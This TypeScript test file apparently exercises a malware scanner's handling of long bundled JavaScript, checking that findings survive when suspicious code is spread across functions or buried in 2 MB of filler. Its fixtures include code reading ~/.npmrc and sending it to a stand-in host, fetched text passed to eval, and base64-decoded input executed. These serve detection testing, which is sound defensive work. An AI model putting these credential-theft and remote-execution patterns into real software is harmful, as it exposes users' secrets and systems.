import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { bundle } from '../../../test/bundle.ts';
import { statements } from '../../../test/statements.ts';
import { fileRules } from '../../rules/archive-rules.ts';
import { SourceFile } from '../source-file.ts';
import { windowPlaces } from './window-places.ts';
import { windowsOf } from './windows.ts';

const windowed = (text: string) => windowsOf(text, windowPlaces(text))?.text;
const findings = (text: string) => {
  const file = new SourceFile('index.js', 'javascript', text);
  return fileRules.flatMap((rule) =>
    [...rule.check(file)].map((hit) => `${rule.id} ${hit.tier ?? rule.tier}`),
  );
};

describe('the windows of a long file', () => {
  test('have all positions, and nothing of functions that have no part in it', () => {
    const text = `${bundle}\nfunction run(c) { require('child_process').exec(c); }`;
    const found = windowed(text)!;
    expect(found).toHaveLength(text.length);
    expect(found).toContain('exec(c)');
    expect(found).not.toContain('child.list');
  });

  test.each<[string, string, string[]]>([
    [
      'what calls a function, and what calls that',
      `function a(c) { require('child_process').exec(c); }
       function b(e) { ${' '.repeat(4_000)} a(e); }
       function d() { ${' '.repeat(4_000)} b('first'); }`,
      ['a(e)', "b('first')"],
    ],
    [
      'what mentions a name that is declared with it',
      `const { exec: x } = require('child_process');
       function b(e) { return x(e); }
       function d(x) { return x('none'); }`,
      ['x(e)'],
    ],
    [
      'what loads a module of a bundle that has it',
      `!function (r) { var t = { 12: (e) => { e.exports = require('child_process'); },
       13: (e, t, n) => { n(12).exec('first'); }, 14: (e, t, n) => { n(13); n(15); } }; }();`,
      ["exec('first')"],
    ],
    [
      'what is called by it',
      `const text = (e) => { return e.list; };
       function b(c) { require('child_process').exec(text(c)); }`,
      ['e.list'],
    ],
  ])('keep %s', (_name, text, kept) => {
    const found = windowed(`${bundle}\n${text}`)!;
    for (const part of kept) expect(found).toContain(part);
    expect(found).not.toContain("x('none')");
  });

  test('are not made where most would be kept', () => {
    const text = Array.from({ length: 400 }, (_, at) => `function a${at}() { eval(b${at}); }`).join('\n');
    expect(windowed(text.repeat(3))).toBeUndefined();
  });
});

const caller = (name: string) => `function ${name}s(e) { ${' '.repeat(5_000)} return ${name}(e); }`;

test.each<[string, string]>([
  [
    'a function that runs its argument',
    `function a(c) { return eval(c); } ${caller('a')}
    fetch('https://x.invalid').then((r) => r.text()).then((t) => as(t));`,
  ],
  [
    'a secret that one function reads and another sends',
    `function a() { return require('fs').readFileSync(require('os').homedir() + '/.npmrc'); }
    function b(t) { require('https').request({ host: 'x.invalid' }).end(t); } ${caller('b')} function n() { bs(a()); } n();`,
  ],
  [
    'a secret that one method reads and another sends',
    `class Client {
      read() { ${' '.repeat(4_000)} return require('fs').readFileSync(require('os').homedir() + '/.npmrc'); }
      send(t) { ${' '.repeat(4_000)} require('https').request({ host: 'x.invalid' }).end(t); }
      start() { ${' '.repeat(4_000)} this.send(this.read()); }
    }
    new Client().start();`,
  ],
  [
    'a decoder apart from what runs its text',
    `function a(t) { return Buffer.from(t, 'base64').toString(); } ${caller('a')}
    function b(t) { return eval(t); } function n() { b(as(process.argv[2])); } n();`,
  ],
])('%s is found in 2 MB of other code', (_name, text) => {
  const long = `(function () {\n${bundle.repeat(70)}\n${text}\n${bundle}\n})();`;
  expect(long.length).toBeGreaterThan(2_000_000);
  expect(findings(text)).not.toEqual([]);
  expect(findings(long)).toEqual(findings(text));
});

test('a rule finds in a long file whatever it finds in a short one, however it is spread over functions', () => {
  const program = fc
    .array(fc.tuple(fc.constantFrom(...statements), fc.boolean()), { maxLength: 4 })
    .map((parts) =>
      parts
        .map(([part, isApart], at) => (isApart ? `function f${at}() { ${part} }\nf${at}();` : part))
        .join('\n'),
    );
  fc.assert(
    fc.property(program, (text) => {
      // In a short file all things belong together, in a long one those that are near.
      expect(findings(`${bundle}\n${text}\n${bundle}`)).toEqual(findings(text));
    }),
    { numRuns: 100 },
  );
});
